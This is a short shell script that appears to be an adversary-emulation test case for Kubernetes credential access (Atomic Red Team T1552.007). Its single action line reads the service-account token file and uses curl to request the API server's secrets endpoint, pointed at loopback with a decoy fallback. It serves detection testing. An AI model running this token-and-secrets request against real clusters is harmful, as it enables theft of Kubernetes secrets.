#!/bin/sh
# case: T1552.007-api-with-token-curl
# technique: Container API: token used against the API server
# source: redcanaryco/atomic-red-team T1552.007-3; stratus
# needs: curl
# expect: cred net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need curl
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null || echo decoy); curl -sk -m 2 -H "Authorization: Bearer $T" https://127.0.0.1:6443/api/v1/namespaces/default/secrets >/dev/null 2>&1; true
exit 0
